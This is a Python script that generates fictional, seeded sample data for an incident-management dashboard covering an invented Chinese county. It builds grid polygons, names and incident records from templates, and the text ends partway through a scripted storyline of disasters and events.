#!/usr/bin/env python3
"""Generate Watchfloor's sample data for the fictional county 云岭县 (code 990102).

Python 3.11, standard library only. A fixed seed makes every run byte-identical:

    python3 scripts/gen-sampledata.py            # writes sampledata/ and validates it
    python3 scripts/gen-sampledata.py --check    # validate the files already on disk

Everything produced here is fictional: the county, its places, people, phone numbers,
tickets and incidents. Attacker addresses come only from the documentation ranges
192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24; internal hosts are 10.99.x.x.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import random
import sys
from datetime import date, datetime, timedelta, timezone
from xml.sax.saxutils import escape as xml_escape

SEED = 20261122
TZ = timezone(timedelta(hours=8))
END = datetime(2026, 11, 22, 8, 0, 0, tzinfo=TZ)
START = END - timedelta(hours=72)
COUNTY_CODE = "990102"
COUNTY_NAME = "云岭县"

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "sampledata")
ROOT = os.path.normpath(ROOT)

rng = random.Random(SEED)


# ----------------------------------------------------------------------------------------------
# helpers

def iso(t: datetime) -> str:
    """Native format time: seconds precision with +08:00."""
    return t.astimezone(TZ).isoformat(timespec="seconds")


def jdump(obj) -> str:
    return json.dumps(obj, ensure_ascii=False, separators=(", ", ": "))


def write_text(rel: str, text: str, bom: bool = False) -> None:
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = text.encode("utf-8")
    if bom:
        data = b"\xef\xbb\xbf" + data
    with open(path, "wb") as f:
        f.write(data)


def write_jsonl(rel: str, records: list[dict]) -> None:
    write_text(rel, "".join(jdump(r) + "\n" for r in records))


def weighted(pairs):
    """pairs: list of (value, weight)."""
    total = sum(w for _, w in pairs)
    x = rng.random() * total
    for v, w in pairs:
        x -= w
        if x < 0:
            return v
    return pairs[-1][0]


# Hour-of-day weights: quiet at night, busy in the working day and the early evening.
HOUR_W = [2, 1.5, 1, 1, 1, 1.5, 3, 5, 8, 10, 10, 9, 7, 8, 9, 9, 9, 8, 8, 8, 7, 6, 4, 3]


def rand_time(lo: datetime = START, hi: datetime = END, diurnal: bool = True) -> datetime:
    span = (hi - lo).total_seconds()
    while True:
        t = lo + timedelta(seconds=rng.random() * span)
        if not diurnal or rng.random() * 10 < HOUR_W[t.hour]:
            return t.replace(microsecond=0)


SURNAMES = ("王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗梁宋郑谢韩唐冯于董萧程曹袁邓许傅沈曾彭吕苏卢蒋蔡贾丁魏"
            "薛叶阎余潘杜戴夏钟汪田任姜范方石姚谭廖邹熊金陆郝孔白崔康毛邱秦江史顾侯邵孟龙万段普字")
GIVEN = ("伟芳娜敏静丽强磊军洋勇艳杰娟涛明超秀霞平刚桂英华玉兰建国志红文斌春梅海燕云丹宁波凯琳晓东亮"
         "鹏辉雪梅林松福贵德荣发顺永祥家兴玲琼仙兰琴金凤成富")


def person_name(used: set[str] | None = None) -> str:
    while True:
        n = rng.choice(SURNAMES) + "".join(rng.choice(GIVEN) for _ in range(rng.choice((1, 2, 2))))
        if used is None or n not in used:
            if used is not None:
                used.add(n)
            return n


def caller_name() -> str:
    return rng.choice(SURNAMES) + rng.choice(("女士", "先生", "女士", "先生", "阿姨", "师傅"))


MOBILE_PREFIX = ["138", "139", "137", "136", "135", "150", "151", "152", "157", "158", "159", "187", "188",
                 "182", "183", "133", "153", "180", "189", "177", "199", "198", "181", "173"]


def phone() -> str:
    return rng.choice(MOBILE_PREFIX) + "".join(str(rng.randrange(10)) for _ in range(8))


# ----------------------------------------------------------------------------------------------
# 1. Geography: a jittered 8 x 6 lattice of grids, grouped into villages and townships.

NX, NY = 8, 6
LON0, LAT0 = 102.302, 24.865          # south-west corner; centre ≈ 102.50E 25.00N
DX, DY = 0.0495, 0.045               # ≈ 5.0 km x 5.0 km per cell; county ≈ 40 x 30 km

# (township code, name, [(village code, name, [(row, col), ...]), ...]); row 0 is the south edge.
TOWNSHIPS = [
    ("001", "城关镇", [
        ("001", "北街社区", [(4, 3), (3, 3), (3, 2), (2, 2)]),
        ("002", "东街社区", [(3, 4), (2, 4), (2, 3)]),
        ("003", "南街社区", [(1, 3), (1, 4), (0, 4), (0, 5)]),
    ]),
    ("002", "青石镇", [
        ("001", "青石社区", [(5, 3), (5, 4), (4, 4), (4, 5)]),
        ("002", "石门村", [(5, 5), (5, 6), (5, 7), (4, 6), (4, 7)]),
        ("003", "松林村", [(3, 5), (3, 6)]),
    ]),
    ("003", "龙泉镇", [
        ("001", "龙泉社区", [(2, 5), (1, 5), (1, 6)]),
        ("002", "温泉村", [(3, 7), (2, 7), (2, 6)]),
        ("003", "茶园村", [(1, 7), (0, 6), (0, 7)]),
    ]),
    ("004", "河口乡", [
        ("001", "河口村", [(5, 0), (5, 1), (4, 0), (4, 1)]),
        ("002", "渡口村", [(5, 2), (4, 2)]),
        ("003", "石桥村", [(3, 0), (3, 1)]),
    ]),
    ("005", "白沙乡", [
        ("001", "白沙村", [(2, 0), (2, 1), (1, 0), (1, 1)]),
        ("002", "沙坝村", [(0, 0), (0, 1)]),
        ("003", "新寨村", [(1, 2), (0, 2), (0, 3)]),
    ]),
]

TOWNSHIP_GOV = {t[1]: t[1] + "人民政府" for t in TOWNSHIPS}


def build_lattice():
    """Vertices v[(i, j)] for lattice corners and m[edge] for jittered edge midpoints, rounded once."""
    def r6(x):
        return round(x, 6)

    v = {}
    for i in range(NX + 1):
        for j in range(NY + 1):
            x, y = LON0 + i * DX, LAT0 + j * DY
            on_x_edge = i in (0, NX)
            on_y_edge = j in (0, NY)
            if on_x_edge and on_y_edge:
                jx, jy = rng.uniform(-0.10, 0.10), rng.uniform(-0.10, 0.10)
            elif on_x_edge:       # west/east boundary: slide along it, a little across
                jx, jy = rng.uniform(-0.18, 0.18), rng.uniform(-0.26, 0.26)
            elif on_y_edge:
                jx, jy = rng.uniform(-0.26, 0.26), rng.uniform(-0.18, 0.18)
            else:
                jx, jy = rng.uniform(-0.27, 0.27), rng.uniform(-0.27, 0.27)
            v[(i, j)] = (r6(x + jx * DX), r6(y + jy * DY))
    m = {}

    def mid(a, b, outer):
        (ax, ay), (bx, by) = v[a], v[b]
        mx, my = (ax + bx) / 2, (ay + by) / 2
        # perpendicular offset, in lattice units of the edge's direction
        ex, ey = bx - ax, by - ay
        length = math.hypot(ex / DX, ey / DY) or 1.0
        nx, ny = -ey / DY / length, ex / DX / length
        off = rng.uniform(-0.22, 0.22) if outer else rng.uniform(-0.16, 0.16)
        along = rng.uniform(-0.08, 0.08)
        return (r6(mx + off * nx * DX + along * ex), r6(my + off * ny * DY + along * ey))

    for i in range(NX):
        for j in range(NY + 1):
            m[("h", i, j)] = mid((i, j), (i + 1, j), j in (0, NY))
    for i in range(NX + 1):
        for j in range(NY):
            m[("v", i, j)] = mid((i, j), (i, j + 1), i in (0, NX))
    return v, m


def cell_ring(v, m, row, col):
    """Counter-clockwise ring (RFC 7946 exterior) of the cell at (row, col), closed."""
    i, j = col, row
    ring = [v[(i, j)], m[("h", i, j)], v[(i + 1, j)], m[("v", i + 1, j)],
            v[(i + 1, j + 1)], m[("h", i, j + 1)], v[(i, j + 1)], m[("v", i, j)]]
    return ring + [ring[0]]


def union_ring(rings):
    """Exact outline of edge-adjacent rings that share vertices: cancel opposite directed edges."""
    edges = {}
    for ring in rings:
        for a, b in zip(ring, ring[1:]):
            if (b, a) in edges:
                del edges[(b, a)]
            else:
                assert (a, b) not in edges, "overlapping children"
                edges[(a, b)] = True
    nxt = {}
    for a, b in edges:
        assert a not in nxt, f"outline pinches at {a}"
        nxt[a] = b
    start = min(nxt)
    out = [start]
    cur = nxt[start]
    while cur != start:
        out.append(cur)
        cur = nxt[cur]
        assert len(out) <= len(nxt), "outline does not close"
    assert len(out) == len(nxt), "region is not simply connected (several outlines)"
    # Start at a stable corner and close the ring.
    return out + [out[0]]


def ring_area(ring):
    s = 0.0
    for (x1, y1), (x2, y2) in zip(ring, ring[1:]):
        s += x1 * y2 - x2 * y1
    return s / 2


def centroid(ring):
    a = ring_area(ring)
    cx = cy = 0.0
    for (x1, y1), (x2, y2) in zip(ring, ring[1:]):
        f = x1 * y2 - x2 * y1
        cx += (x1 + x2) * f
        cy += (y1 + y2) * f
    return (round(cx / (6 * a), 6), round(cy / (6 * a), 6))


def polygon(ring):
    return {"type": "Polygon", "coordinates": [[list(p) for p in ring]]}


def build_county():
    v, m = build_lattice()
    used_names: set[str] = set()
    records = []
    grids = []             # dicts with id, name, township, village, ring, centroid, worker
    township_rings = []
    county_children = []
    t_records = []
    for tcode, tname, villages in TOWNSHIPS:
        tid = COUNTY_CODE + tcode
        v_rings = []
        v_records = []
        for vcode, vname, cells in villages:
            vid = tid + vcode
            g_rings = []
            for n, (row, col) in enumerate(cells, start=1):
                gid = vid + f"{n:03d}"
                ring = cell_ring(v, m, row, col)
                g_rings.append(ring)
                worker = person_name(used_names)
                g = {
                    "kind": "grid", "id": gid, "name": f"{tname}{vname}第{n}网格", "level": "grid",
                    "parent": vid, "worker": worker, "worker_phone": phone(),
                    "households": rng.randrange(350, 651) if "社区" in vname else rng.randrange(350, 520),
                    "geometry": polygon(ring),
                }
                grids.append({"id": gid, "name": g["name"], "township": tname, "village": vname,
                              "ring": ring, "centroid": centroid(ring), "worker": worker,
                              "worker_phone": g["worker_phone"], "urban": tname == "城关镇"})
                v_records.append(g)
            vring = union_ring(g_rings)
            v_rings.append(vring)
            v_records.insert(len(v_records) - len(cells), {
                "kind": "grid", "id": vid, "name": f"{tname}{vname}", "level": "village", "parent": tid,
                "geometry": polygon(vring)})
        tring = union_ring(v_rings)
        township_rings.append(tring)
        t_records.append(({"kind": "grid", "id": tid, "name": tname, "level": "township",
                           "parent": COUNTY_CODE, "geometry": polygon(tring)}, v_records))
    cring = union_ring(township_rings)
    records.append({"kind": "grid", "id": COUNTY_CODE, "name": COUNTY_NAME, "level": "county",
                    "geometry": polygon(cring)})
    for trec, vrecs in t_records:
        records.append(trec)
        records.extend(vrecs)
    return records, grids, cring


# ----------------------------------------------------------------------------------------------
# 2. Shared vocabulary

ROADS = {
    "城关镇": ["人民路", "文化路", "建设路", "滨河路", "解放路", "新华街", "环城北路", "振兴大道", "府前街"],
    "青石镇": ["青石大道", "石门街", "松林路"],
    "龙泉镇": ["龙泉路", "温泉街", "茶园路"],
    "河口乡": ["河口街", "渡口路", "X103县道"],
    "白沙乡": ["白沙街", "沙坝路", "X102县道"],
}
LANDMARKS = ["农贸市场", "客运站", "中心小学", "卫生院", "幸福小区", "锦绣家园小区", "文化广场", "加油站",
             "村委会", "集贸市场", "老街", "工业园区", "汽车站", "敬老院", "中学", "菜市场", "超市门口"]

OPERATORS = [("王伟", "wangwei"), ("李娜", "lina"), ("张敏", "zhangmin"), ("刘洋", "liuyang"), ("陈静", "chenjing")]


def place_of(g) -> str:
    return f"{g['township']}{g['village']}"


def location_of(g) -> str:
    if rng.random() < 0.5:
        return f"{place_of(g)}{rng.choice(ROADS[g['township']])}"
    return f"{place_of(g)}{rng.choice(LANDMARKS)}"


def pick_grid(grids, urban_bias=0.45):
    if rng.random() < urban_bias:
        return rng.choice([g for g in grids if g["urban"]])
    return rng.choice(grids)


# ----------------------------------------------------------------------------------------------
# 3. Incidents

INC_SOURCES = {
    "public_safety": [("110联动", 7), ("网格上报", 3)],
    "production_safety": [("应急管理局", 5), ("网格上报", 3), ("市场监管局", 2)],
    "public_health": [("卫健局", 7), ("网格上报", 2), ("市场监管局", 1)],
    "natural_disaster": [("应急管理局", 5), ("网格上报", 3), ("水务局", 1), ("自然资源局", 1)],
    "dispute": [("网格上报", 6), ("信访局", 2), ("110联动", 2)],
    "public_opinion": [("舆情监测", 8), ("网信办", 2)],
    "cyber_security": [("态势感知平台", 6), ("网信办", 3), ("公安网安大队", 1)],
    "other": [("110联动", 4), ("网格上报", 4), ("12345转办", 2)],
}

# (level, title template, detail template). {p} place, {loc} location, {road} road, {n} small number.
INC_TEMPLATES = {
    "public_safety": [
        (4, "{p}{road}路口两车追尾致1人受伤", "一辆小轿车与一辆面包车追尾，面包车驾驶员颈部受伤已送县医院，交警到场处置，现场已清理。"),
        (4, "{p}一电动自行车被盗", "车主称晚饭后停放在楼下的电动车被盗，价值约3000元，派出所已调取周边监控。"),
        (4, "{p}农贸市场两摊主发生推搡", "两名摊主因摊位占道问题发生口角并推搡，无人受伤，民警到场调解。"),
        (4, "{p}一名八旬老人走失", "家属报称老人有阿尔茨海默病，上午出门未归，身穿蓝色外套，已发动网格员协助寻找。"),
        (4, "{loc}酒后滋事一人被带离", "一男子酒后在店门口砸坏桌椅，民警到场后将其带回派出所醒酒，无人受伤。"),
        (4, "{p}网吧发现未成年人上网", "巡查中发现2名未成年人在网吧上网，已通知监护人领回，文旅执法部门跟进。"),
        (3, "{p}一村民遭电信诈骗被骗{n}万元", "受害人接到冒充电商客服电话，按对方要求操作转账，已报警并冻结部分资金。"),
        (3, "{p}发生一起入室盗窃案", "住户外出期间家中被盗现金及金饰，价值约5万元，刑侦人员已勘查现场。"),
        (3, "{road}一小轿车撞上护栏致2人受伤", "夜间车辆失控撞上道路护栏，2名乘员受伤送医，无生命危险。"),
        (2, "{road}发生三车相撞事故致1死3伤", "一辆重型货车与两辆小轿车相撞，1人当场死亡，3人送县医院救治，交警封闭半幅道路。"),
    ],
    "production_safety": [
        (4, "{p}某砂石厂粉尘超标被举报", "群众反映砂石厂破碎作业未采取喷淋降尘措施，应急、环保部门联合检查。"),
        (4, "{p}一建筑工地未设置安全防护网", "网格员巡查发现在建楼房外架未挂安全网，已通知住建部门责令整改。"),
        (4, "{loc}一餐馆液化气钢瓶违规存放", "餐馆后厨存放5个液化气钢瓶且无报警装置，已责令立即整改。"),
        (4, "{p}发现烟花爆竹违规储存点", "一商铺楼上违规存放烟花爆竹约30箱，已查扣并立案调查。"),
        (3, "{p}某砖厂一工人被传送带卷伤手臂", "工人清理传送带时未停机，右臂被卷伤，已送医，企业已停产整顿。"),
        (3, "{p}在建工地塔吊吊物坠落", "塔吊吊运钢管时吊索断裂，钢管坠落砸坏工棚，未造成人员伤亡，工地已停工。"),
        (2, "{p}某化工企业储罐阀门泄漏", "企业盐酸储罐阀门泄漏，已启动应急预案，周边200米人员已疏散，消防救援队到场处置。"),
    ],
    "public_health": [
        (4, "{p}中心小学出现5例呕吐腹泻学生", "疑似诺如病毒感染，疾控中心已采样，学校落实晨午检和消毒。"),
        (4, "流感样病例就诊数较上周上升30%", "县医院和各乡镇卫生院流感样病例就诊数持续上升，建议加强重点场所防控宣传。"),
        (4, "{p}一家小餐馆无健康证人员从业", "市场监管执法检查发现2名从业人员无健康证，已责令改正。"),
        (3, "{p}一婚宴发生疑似食物中毒十余人就医", "参加婚宴的村民陆续出现腹痛腹泻，已送卫生院和县医院观察治疗，已封存留样。"),
        (2, "{p}中学发生聚集性发热疫情", "30余名学生出现发热咳嗽，疾控中心流调采样，学校已对相关班级停课。"),
    ],
    "natural_disaster": [
        (4, "{p}强降雨致村道局部塌方", "村道约20米路基塌方，小车无法通行，已设置警示标志，乡镇组织抢修。"),
        (4, "{p}大风吹倒广告牌砸中车辆", "大风将路边广告牌吹倒，砸中停放的一辆小轿车，无人受伤。"),
        (4, "{p}一处农房墙体开裂", "连续降雨后农房土墙出现裂缝，已转移2户6人至村委会安置。"),
        (4, "{p}农田积水约50亩", "持续降雨导致低洼农田积水，农业部门指导排涝。"),
        (3, "{p}发生小型山体滑坡阻断乡道", "滑坡土方约300立方米，阻断乡道，无人员伤亡，交通部门调派机械清理。"),
        (3, "{p}河段水位上涨超警戒线0.3米", "水文站监测水位持续上涨，已通知沿河群众注意防范。"),
        (2, "{p}山洪冲毁便桥12户群众出行受阻", "山洪冲毁村内便桥，12户群众出行受阻，乡镇已组织临时转移和物资保障。"),
    ],
    "dispute": [
        (4, "{p}两户村民因宅基地边界发生争执", "双方因新建围墙占地问题多次争吵，网格员和村调委会已介入调解。"),
        (4, "{p}邻里因楼上漏水发生纠纷", "楼上卫生间漏水导致楼下天花板受损，双方对赔偿金额有分歧，社区正在调解。"),
        (4, "{p}土地流转租金纠纷", "部分农户反映合作社拖欠土地流转租金，村委会已组织双方协商。"),
        (4, "{p}一对夫妻吵架砸毁物品", "家庭纠纷，民警和妇联干部上门调解，已口头训诫。"),
        (4, "{p}小区业主与物业因停车收费产生矛盾", "十余名业主到物业办公室反映停车费上涨问题，社区组织协商。"),
        (3, "{p}30余名农民工聚集讨要工资", "某在建项目农民工反映被拖欠工资约80万元，人社、住建部门已到场协调。"),
        (3, "{p}征地补偿纠纷村民到{t}政府反映诉求", "二十余名村民对道路征地补偿标准有异议，{t}政府已接待并答复。"),
        (2, "{p}征地补偿纠纷百余名村民聚集堵路", "村民因补偿款发放问题在县道聚集，交通中断约1小时，县乡两级已到场疏导化解。"),
    ],
    "public_opinion": [
        (4, "网民发帖反映{p}路灯长期不亮", "本地论坛帖子反映路灯损坏近一月，浏览量约3000，已转城管部门处置并回复。"),
        (4, "短视频反映{p}学校食堂饭菜质量差", "短视频播放量约2万，教育局已核查并督促学校整改。"),
        (4, "网民反映{p}农贸市场周边交通拥堵", "微信群内多人转发，已转交警和市场监管部门处理。"),
        (3, "网传“{t}水库决堤”系谣言", "经水务局核实，{t}水库运行正常，水位在汛限水位以下，已发布辟谣信息，公安机关对造谣者调查处理。"),
        (3, "“云岭县某医院乱收费”话题阅读量破10万", "网民反映住院费用清单有重复收费，卫健局已成立调查组。"),
        (2, "短视频“城关镇城管暴力执法”引发热议", "视频转发超5000次，县委宣传部、网信办已启动舆情应对，执法局调查事实经过。"),
    ],
    "cyber_security": [
        (4, "县融媒体中心网站首页出现异常外链", "巡检发现首页底部被植入博彩外链，已下线相关页面并排查后台账号。"),
        (4, "县教育城域网一台终端感染挖矿病毒", "态势感知平台发现终端持续访问矿池域名，已断网查杀。"),
        (4, "县政务服务网疑似遭Web漏洞扫描", "WAF记录到大量扫描器特征请求，已自动拦截，源地址已加入黑名单。"),
        (3, "县医院HIS系统遭SSH暴力破解尝试", "IDS告警显示境外地址持续尝试SSH登录，已在边界封禁该地址并检查口令强度。"),
        (3, "综治视联网平台存在弱口令告警", "等保测评发现平台运维账号使用弱口令，已要求运维单位立即修改。"),
    ],
    "other": [
        (4, "{p}一只流浪犬咬伤路人", "伤者已到卫生院注射狂犬疫苗，畜牧部门组织捕捉流浪犬。"),
        (4, "{p}发现一名疑似精神障碍人员街头游荡", "民警和社区干部已将其带至救助站，正在联系家属。"),
        (4, "{loc}供水管爆裂致路面积水", "自来水公司已关阀抢修，预计4小时内恢复供水。"),
        (4, "{p}野猪进入农田毁坏庄稼", "村民反映野猪夜间拱食玉米，林草部门指导防范。"),
        (4, "{p}一处井盖缺失存在安全隐患", "已设置围挡，城管部门安排补装。"),
    ],
}

CATEGORY_WEIGHTS = [("dispute", 22), ("public_safety", 20), ("production_safety", 11), ("public_health", 8),
                    ("natural_disaster", 9), ("public_opinion", 11), ("cyber_security", 8), ("other", 11)]
LEVEL_WEIGHTS = [(4, 73), (3, 22), (2, 5)]       # Ⅰ级 only from the scripted storyline below

ASSIGNEES = {
    "public_safety": ["{t}派出所", "县公安局交警大队", "县公安局刑侦大队"],
    "production_safety": ["县应急管理局", "{t}安监站", "县住建局"],
    "public_health": ["县疾控中心", "县卫健局", "{t}卫生院"],
    "natural_disaster": ["县应急管理局", "{t}人民政府", "县水务局", "县自然资源局"],
    "dispute": ["{t}综治中心", "{t}司法所", "{t}人民调解委员会"],
    "public_opinion": ["县委网信办", "县融媒体中心", "县委宣传部"],
    "cyber_security": ["县委网信办", "县大数据中心", "公安网安大队"],
    "other": ["{t}人民政府", "县城市管理综合执法局", "县自来水公司", "县林草局"],
}


# Title keyword -> the unit an incident is dispatched to (first match wins); else the category's pool.
ASSIGNEE_BY_KEYWORD = [
    ("工资", ["县人社局"]), ("征地", ["{t}人民政府", "县信访局"]), ("追尾", ["县公安局交警大队"]),
    ("相撞", ["县公安局交警大队"]), ("撞上", ["县公安局交警大队"]), ("盗", ["{t}派出所", "县公安局刑侦大队"]),
    ("诈骗", ["县公安局刑侦大队"]), ("走失", ["{t}派出所"]), ("滋事", ["{t}派出所"]), ("推搡", ["{t}派出所"]),
    ("网吧", ["县文化和旅游局"]), ("砂石厂", ["县生态环境分局", "县应急管理局"]), ("建筑工地", ["县住建局"]),
    ("塔吊", ["县住建局"]), ("液化气", ["县应急管理局", "县消防救援大队"]), ("烟花爆竹", ["县应急管理局"]),
    ("砖厂", ["县应急管理局"]), ("化工", ["县应急管理局"]), ("食物中毒", ["县卫健局", "县市场监管局"]),
    ("健康证", ["县市场监管局"]), ("水位", ["县水务局"]), ("滑坡", ["县自然资源局", "县交通运输局"]),
    ("塌方", ["{t}人民政府", "县交通运输局"]), ("广告牌", ["县城市管理综合执法局"]), ("墙体", ["{t}人民政府"]),
    ("积水", ["县农业农村局"]), ("山洪", ["县应急管理局"]), ("物业", ["{t}综治中心", "县住建局"]),
    ("漏水", ["{t}综治中心", "{t}司法所"]), ("宅基地", ["{t}司法所", "{t}自然资源所"]),
    ("土地流转", ["县农业农村局", "{t}综治中心"]), ("夫妻", ["{t}派出所", "{t}妇联"]), ("路灯", ["县城市管理综合执法局"]),
    ("食堂", ["县教育局"]), ("交通拥堵", ["县公安局交警大队"]), ("谣言", ["县委网信办", "县水务局"]),
    ("医院", ["县卫健局"]), ("城管", ["县城市管理综合执法局", "县委网信办"]), ("流浪犬", ["县农业农村局"]),
    ("精神障碍", ["{t}派出所"]), ("供水管", ["县自来水公司"]), ("野猪", ["县林草局"]),
    ("井盖", ["县城市管理综合执法局"]),
]


RURAL_WORDS = ("村民", "村道", "农田", "野猪", "土地流转", "宅基地", "农房", "便桥", "砖厂", "砂石厂", "婚宴", "乡道")
URBAN_WORDS = ("小区", "物业", "网吧", "路灯", "广告牌", "井盖")
ASSET_LOCATION = {"县医院HIS系统": "县人民医院信息中心机房", "县教育城域网": "县教育局城域网中心机房",
                  "县融媒体中心网站": "县融媒体中心机房"}


def assignee_for(cat: str, title: str, g) -> str:
    for word, units in ASSIGNEE_BY_KEYWORD:
        if word in title:
            return rng.choice(units).format(t=g["township"])
    return rng.choice(ASSIGNEES[cat]).format(t=g["township"])


def source_ref(source: str, t: datetime, n: int) -> str:
    d = t.strftime("%Y%m%d")
    return {
        "110联动": f"110-{d}-{n:05d}",
        "应急管理局": f"YJ{d}{n:03d}",
        "卫健局": f"WJ-{d}-{n:03d}",
        "网格上报": f"WG{d}{n:04d}",
        "舆情监测": f"YQ-{d}-{n:04d}",
        "网信办": f"WX{d}-{n:03d}",
        "市场监管局": f"SJ{d}{n:04d}",
        "信访局": f"XF{d}{n:04d}",
        "态势感知平台": f"TS-{d}-{n:04d}",
        "公安网安大队": f"WA{d}{n:03d}",
        "水务局": f"SW{d}{n:03d}",
        "自然资源局": f"ZR{d}{n:03d}",
        "12345转办": f"12345-{d}-{n:04d}",
    }[source]


def reporter_for(source: str, g) -> str:
    return {
        "110联动": f"群众报警（{caller_name()}）",
        "网格上报": f"网格员{g['worker']}",
        "应急管理局": "县应急管理局值班室",
        "卫健局": "县疾控中心",
        "舆情监测": "舆情监测系统",
        "网信办": "县委网信办",
        "市场监管局": "县市场监管局执法大队",
        "信访局": "县信访局",
        "态势感知平台": "网络安全态势感知平台",
        "公安网安大队": "公安网安大队",
        "水务局": "县水文站",
        "自然资源局": "县自然资源局地灾监测站",
        "12345转办": "12345热线",
    }[source]


def fill(template: str, g) -> str:
    return template.format(p=place_of(g), loc=location_of(g), road=rng.choice(ROADS[g["township"]]),
                           n=rng.choice((2, 3, 5, 8, 12)), t=g["township"])


def lifecycle_incident(rec: dict, level: int, cat: str, g, target: str | None = None) -> None:
    """Fill status and consistent history timestamps. target forces the final status."""
    t0 = datetime.fromisoformat(rec["reported_at"])
    age_h = (END - t0).total_seconds() / 3600
    if target is None:
        if age_h > 12:
            target = weighted([("closed", 58), ("resolved", 30), ("dispatched", 8), ("acknowledged", 4)])
        else:
            target = weighted([("new", 30), ("acknowledged", 30), ("dispatched", 28), ("resolved", 12)])
            if age_h < 0.6 and rng.random() < 0.7:
                target = "new"
    order = ["new", "acknowledged", "dispatched", "resolved", "closed"]
    ack_max = {1: 3, 2: 6, 3: 20, 4: 45}[level]
    times = {}
    t = t0
    steps = {
        "acknowledged": lambda: timedelta(seconds=rng.randrange(30, ack_max * 60)),
        "dispatched": lambda: timedelta(minutes=rng.randrange(3, 50)),
        "resolved": lambda: timedelta(minutes=rng.randrange(40, 60 * (14 if level >= 3 else 10))),
        "closed": lambda: timedelta(minutes=rng.randrange(20, 60 * 8)),
    }
    reached = "new"
    for st in order[1:order.index(target) + 1]:
        nt = t + steps[st]()
        if nt >= END - timedelta(minutes=1):
            break
        t = nt
        times[st] = t
        reached = st
    rec["status"] = reached
    op_name, op_login = rng.choice(OPERATORS)
    if "acknowledged" in times:
        rec["acked_by"] = op_login
        rec["acked_at"] = iso(times["acknowledged"])
    if "dispatched" in times:
        rec["assignee"] = rec.pop("_assignee", None) or assignee_for(cat, rec["title"], g)
        rec["dispatched_at"] = iso(times["dispatched"])
    if "resolved" in times:
        rec["resolved_at"] = iso(times["resolved"])
    if "closed" in times:
        rec["closed_at"] = iso(times["closed"])


def build_incidents(grids):
    by_name = {g["name"]: g for g in grids}
    seq_by_day: dict[str, int] = {}
    src_seq: dict[str, int] = {}
    out = []

    def make(t: datetime, cat: str, level: int, title: str, detail: str, g, source: str | None = None,
             target: str | None = None, location: str | None = None, assignee: str | None = None):
        day = t.strftime("%Y%m%d")
        seq_by_day[day] = seq_by_day.get(day, 0) + 1
        source = source or weighted(INC_SOURCES[cat])
        src_seq[source] = src_seq.get(source, 0) + rng.randrange(1, 9)
        rec = {
            "kind": "incident", "id": f"INC-{day}-{seq_by_day[day]:04d}", "source": source,
            "source_ref": source_ref(source, t, src_seq[source]), "category": cat, "level": level,
            "title": title, "detail": detail, "grid_id": g["id"],
            "location": location or location_of(g), "reporter": reporter_for(source, g),
            "reported_at": iso(t),
        }
        if assignee:
            rec["_assignee"] = assignee
        lifecycle_incident(rec, level, cat, g, target)
        rec.pop("_assignee", None)
        out.append(rec)
        return rec

    def G(name):
        return by_name[name]

    # Scripted storyline (keeps the demo coherent with the CAP warnings and the alert burst).
    story = [
        (datetime(2026, 11, 19, 13, 42, 10, tzinfo=TZ), "natural_disaster", 1, "青石镇松林村发生森林火灾",
         "松林村后山林地起火，过火面积约120公顷，县森林消防、乡镇扑火队和民兵共300余人扑救，已转移群众46户，无人员伤亡；20日凌晨明火扑灭。",
         "青石镇松林村第2网格", "应急管理局", "closed", "青石镇松林村后山林区", "县应急管理局"),
        (datetime(2026, 11, 20, 11, 5, 0, tzinfo=TZ), "natural_disaster", 4, "大风吹落城关镇文化路商铺招牌",
         "县气象局发布大风蓝色预警后，文化路一商铺招牌被吹落，砸坏路边护栏，无人受伤。",
         "城关镇东街社区第1网格", "网格上报", "closed", "城关镇东街社区文化路", "县城市管理综合执法局"),
        (datetime(2026, 11, 21, 14, 10, 30, tzinfo=TZ), "cyber_security", 2, "县政务服务网遭受集中SQL注入攻击",
         "WAF（waf-portal-01）14:02—14:09共记录高危告警30余条，源地址203.0.113.45，攻击目标为办事指南查询接口，已全部拦截；已封禁源地址并对接口做参数化整改。",
         "城关镇东街社区第2网格", "态势感知平台", "resolved", "县大数据中心机房（县政务服务网）", "县委网信办"),
        (datetime(2026, 11, 21, 15, 20, 0, tzinfo=TZ), "natural_disaster", 3, "县气象局发布暴雨黄色预警",
         "预计21日夜间至22日白天全县有暴雨，局地大暴雨，县防指启动防汛Ⅳ级应急响应，各乡镇落实地灾隐患点巡查。",
         "城关镇北街社区第1网格", "应急管理局", "dispatched", "云岭县全境", "县防汛抗旱指挥部办公室"),
        (datetime(2026, 11, 21, 23, 48, 0, tzinfo=TZ), "natural_disaster", 1, "白沙乡新寨村强降雨引发泥石流",
         "泥石流冲毁新寨村民房8户，3人失联，已转移群众120余人；县防指启动防汛Ⅰ级应急响应，消防、武警、医疗救援力量已到场搜救。",
         "白沙乡新寨村第1网格", "应急管理局", "dispatched", "白沙乡新寨村后山沟", "县应急管理局"),
        (datetime(2026, 11, 22, 1, 36, 0, tzinfo=TZ), "natural_disaster", 2, "河口乡渡口河段水位超警戒线1.2米",
         "渡口水文站水位持续上涨，沿河低洼处2个村民小组共58户需转移，乡政府正在组织转移。",
         "河口乡渡口村第1网格", "水务局", "acknowledged", "河口乡渡口村渡口水文站", None),
        (datetime(2026, 11, 22, 4, 15, 0, tzinfo=TZ), "natural_disaster", 3, "龙泉镇温泉村发生山体滑坡阻断县道",
         "滑坡土方约800立方米，阻断X101县道，无人员伤亡，交通运输局调派机械抢通。",
         "龙泉镇温泉村第2网格", "网格上报", "dispatched", "龙泉镇温泉村X101县道K12+300处", "县交通运输局"),
        (datetime(2026, 11, 22, 6, 52, 0, tzinfo=TZ), "public_safety", 2, "城关镇人民路三车相撞致1死3伤",
         "雨天路滑，一辆货车与两辆小轿车相撞，1人当场死亡，3人送县医院救治，人民路北段双向封闭。",
         "城关镇北街社区第2网格", "110联动", "new", "城关镇人民路北段与环城北路交叉口", None),
        (datetime(2026, 11, 22, 7, 31, 0, tzinfo=TZ), "public_opinion", 3, "网传“河口乡水库决堤”系谣言",
         "微信群流传“河口乡水库决堤、赶紧撤离”的视频，经水务局核实视频系外地旧视频，河口乡水库运行正常；已发布辟谣信息。",
         "河口乡河口村第1网格", "舆情监测", "new", "网络（微信群、短视频平台）", None),
        (datetime(2026, 11, 22, 7, 44, 0, tzinfo=TZ), "public_health", 2, "白沙乡安置点出现多名腹泻群众",
